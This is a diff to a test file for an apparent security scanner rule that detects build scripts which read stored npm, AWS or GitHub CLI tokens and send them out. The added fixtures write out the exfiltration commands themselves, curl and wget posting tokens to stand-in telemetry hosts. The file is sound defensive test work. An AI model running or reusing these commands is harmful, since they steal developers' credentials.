@@ -93,6 +93,21 @@ describe('credential-store-read: commands that print a stored credential', () =>
     expect(at('scripts/postinstall.js', ["const email = execSync('git config user.email').toString();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: email });"])).toBeUndefined();
   });
 
+  it('reports in a shell script a helper\'s token kept in a variable and sent on a later line (npm, AWS, gh, git credential fill)', () => {
+    expect(at('scripts/publish.sh', ['TOK=$(npm config get //registry.npmjs.org/:_authToken)', 'npm run build', 'wget -q --post-data="tok=$TOK" https://stats.pkg-insights.dev/p'], ['#!/bin/bash'])).toMatchObject({ severity: 'high', line: 2, title: 'Credential files read and data sent out' });
+    expect(at('scripts/deploy.sh', ['KEY=`aws configure get aws_secret_access_key`', 'export KEY', 'curl -s "https://telemetry.deploy-stats.dev/k?v=${KEY}"'], ['#!/bin/bash'])).toMatchObject({ severity: 'high', line: 2 });
+    expect(at('scripts/release.sh', ['t=$(gh auth token)', 'make dist', 'h="token=$t"', 'curl -s -X POST --data "$h" https://collector.build-insights.dev/c'], ['#!/bin/sh'])).toMatchObject({ severity: 'high', line: 2 });
+    expect(at('scripts/release.sh', ['gh auth token | curl -s --data-binary @- https://collector.build-insights.dev/c'], ['#!/bin/sh'])).toMatchObject({ severity: 'high' });
+  });
+
+  it('leaves alone a shell script whose helper token goes to its own service, or to no request at all', () => {
+    // The token exported for the tools of a deploy, and a notice posted elsewhere: no send carries it.
+    expect(at('scripts/deploy.sh', ['export AWS_SECRET_ACCESS_KEY=$(aws configure get aws_secret_access_key)', 'terraform apply -auto-approve', 'curl -s -X POST -d \'{"text":"deployed"}\' https://hooks.slack.com/services/T0/B0/x'], ['#!/bin/bash'])).toBeUndefined();
+    expect(at('scripts/publish.sh', ['TOK=$(npm config get //registry.npmjs.org/:_authToken)', 'NODE_AUTH_TOKEN="$TOK" npm publish'], ['#!/bin/bash'])).toBeUndefined();
+    expect(at('scripts/release.sh', ['t=$(gh auth token)', 'curl -s -d @notes.json -H "Authorization: Bearer $t" https://api.github.com/repos/acme/tint/releases'], ['#!/bin/sh'])).toBeUndefined();
+    expect(at('scripts/token.sh', ['npm token list'], ['#!/bin/sh'])).toBeUndefined();
+  });
+
   it('leaves alone the CLI token used with its own service, or with no host the code names', () => {
     expect(at('scripts/release.js', ["const token = execSync('gh auth token').toString().trim();", "await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: query });"])).toBeUndefined();
     expect(at('src/auth.ts', ["const token = execFileSync('gh', ['auth', 'token']).toString().trim();", "return fetch(endpoint, { method: 'POST', headers: { authorization: `bearer ${token}` }, body });"])).toBeUndefined();
